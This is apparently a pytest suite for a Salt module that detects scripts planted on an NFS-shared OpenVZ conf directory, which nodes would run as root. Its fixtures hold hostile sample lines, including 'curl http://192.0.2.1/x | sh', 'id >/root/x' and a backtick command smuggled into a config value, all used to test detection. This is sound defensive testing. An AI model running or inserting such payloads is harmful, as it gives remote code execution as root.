"""What lies on the conf share and would be run on a node as root, and is not what it or the pillar knows."""

import hashlib

import pytest
from migration_steps import apply, until

OWN = "#!/bin/sh\nlogger mounted\n"
ATTACK = "#!/bin/sh\nlogger mounted\ncurl http://192.0.2.1/x | sh\n"


@pytest.fixture
def before(fleet):
    """A node on local storage, with an action script of its own."""
    fleet.folder.joinpath("etc/vz/conf/vps.mount").write_text(OWN)
    fleet.folder.joinpath("etc/vz/conf/101.umount").write_text(OWN)
    return fleet


@pytest.fixture
def moved(before):
    """The node on NFS, where what it brought lies on the share."""
    until(before, "ringfree_nfs.variables", mounted=True)()
    assert found(before) == []
    return before


@pytest.fixture
def sourcing(before):
    """Its script sources all that is in a subdirectory; another subdirectory is used by nobody."""
    confs = before.folder / "etc/vz/conf"
    confs.joinpath("vps.mount").write_text('#!/bin/sh\nfor file in "${0%/*}"/helpers/*; do . "$file"; done\n')
    for folder in ("helpers", "unused"):
        confs.joinpath(folder).mkdir()
        confs.joinpath(folder, "log").write_text("log() { logger mounted; }\n")
    return before


def found(node):
    return node.minion().modules["ringfree_scripts.unknown"]()


def on_share(node, name, text):
    """Root of another node writes a file on the conf share, which this one may have mounted."""
    folder = node.folder / "etc/vz/conf"
    (folder if node.san("vzconf").is_symlink() else node.san("vzconf")).joinpath(name).write_text(text)


PLANTED = {
    "vps.mount": (ATTACK, "line 3 is 'curl http://192.0.2.1/x | sh'"),
    "vps.umount": (ATTACK, "this node has no such file; it begins with '#!/bin/sh'"),
    "vps.create": (ATTACK, "this node has no such file"),
    "101.umount": ("#!/bin/sh\n", "line 2 is ''"),
    "102.mount": (ATTACK, "this node has no such file"),
    "201.conf": ('ONBOOT="yes"\nid >/root/x\n', "line 2 is 'id >/root/x'"),
    "ve-small.conf-sample": ('NAME="`id`"\n', "line 1 is 'NAME=\"`id`\"'"),
    "0.conf": ('PATH="/vz/private/101"\n', "line 1 is 'PATH="),
}


@pytest.mark.parametrize("name", PLANTED)
def test_h41_what_another_node_put_on_the_share_is_found_by_highstate(moved, name, test_mode):
    text, difference = PLANTED[name]
    on_share(moved, name, text)
    then = moved.tree()
    ret = apply(moved, "ringfree_scripts.known", test=test_mode)
    assert (ret["result"], ret["changes"]) == (False, {})
    assert f"{name} on the conf share is run here as root" in ret["comment"]
    assert difference in ret["comment"] and hashlib.sha256(text.encode()).hexdigest() in ret["comment"]
    assert moved.tree() == then


@pytest.mark.parametrize("name", PLANTED)
def test_h41_what_another_node_put_on_the_share_is_found_before_it_is_mounted(before, name):
    text, difference = PLANTED[name]
    on_share(before, name, text)
    (said,) = found(before)
    assert said.startswith(f"{name} on the conf share is run here as root") and difference in said


def test_h41_what_came_since_preflight_keeps_the_conf_share_from_being_mounted(before):
    until(before, "ringfree_confs.prepared")
    on_share(before, "vps.mount", ATTACK)
    ret = apply(before, "ringfree_confs.prepared")
    assert ret["result"] is False and "nothing was written to the conf share: vps.mount" in ret["comment"]


def test_h41_code_in_a_conf_of_this_node_is_found(moved):
    conf = moved.conf(101)
    conf.write_text(conf.read_text() + "curl http://192.0.2.1/x | sh\n")
    (said,) = found(moved)
    assert "101.conf on the conf share" in said and "curl http://192.0.2.1/x | sh" in said


@pytest.mark.parametrize("text", ["# ringfree fence\nid\n", ATTACK])
def test_h41_another_script_in_the_place_of_the_fence_is_found_before_it_is_mounted(before, text):
    on_share(before, "vps.premount", text)
    assert "vps.premount on the conf share" in found(before)[0]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("201.mount", ATTACK),  # runs where 201 runs
        ("201.conf", 'ONBOOT="yes"\nNAME="of node002"\n'),
        ("dists.txt", ATTACK),
        ("102.conf.destroyed", "id\n"),
    ],
)
def test_what_does_not_run_here_is_left_alone(moved, name, text):
    on_share(moved, name, text)
    assert found(moved) == []


def test_h41_the_pillar_allows_a_file_as_it_is(moved):
    on_share(moved, "vps.mount", ATTACK)
    moved.pillar["shares"]["conf"]["scripts"] = {"vps.mount": hashlib.sha256(ATTACK.encode()).hexdigest()}
    assert found(moved) == []
    on_share(moved, "vps.mount", ATTACK + "id\n")
    assert len(found(moved)) == 1


def test_h41_a_link_in_the_place_of_a_script_is_found(moved):
    script = moved.folder / "etc/vz/conf/vps.mount"
    script.unlink()
    script.symlink_to("/vz/nfsprivate/201/root/x")
    assert "it is a link to '/vz/nfsprivate/201/root/x'" in found(moved)[0]


def test_h41_the_name_of_a_file_is_shown_as_text(moved):
    on_share(moved, "ve-\x1b[31m.conf-sample", "id\n")
    (said,) = found(moved)
    assert said.isprintable() and "ve-\\x1b[31m.conf-sample" in said


HELPERS = {
    "helpers/log": "line 1 is 'id >/root/x'",
    "helpers/more": "this node has no such file; it begins with 'id >/root/x'",
}


@pytest.mark.parametrize("name", HELPERS)
def test_h41_what_a_script_may_source_is_found_before_it_is_mounted(sourcing, name):
    """A node that brought the same subdirectory before was there first."""
    sourcing.san("vzconf").joinpath("helpers").mkdir()
    on_share(sourcing, name, "id >/root/x\n")
    (said,) = found(sourcing)
    assert said.startswith(f"{name} on the conf share is run here as root") and HELPERS[name] in said


@pytest.mark.parametrize("name", HELPERS)
def test_h41_what_a_script_may_source_is_found_by_highstate(sourcing, name):
    until(sourcing, "ringfree_nfs.variables", mounted=True)()
    assert found(sourcing) == []
    on_share(sourcing, name, "id >/root/x\n")
    (said,) = found(sourcing)
    assert said.startswith(f"{name} on the conf share is run here as root") and HELPERS[name] in said
    on_share(sourcing, name, "log() { logger mounted; }\n")
    on_share(sourcing, "unused/more", "id >/root/x\n")
    assert len(found(sourcing)) == (name == "helpers/more")
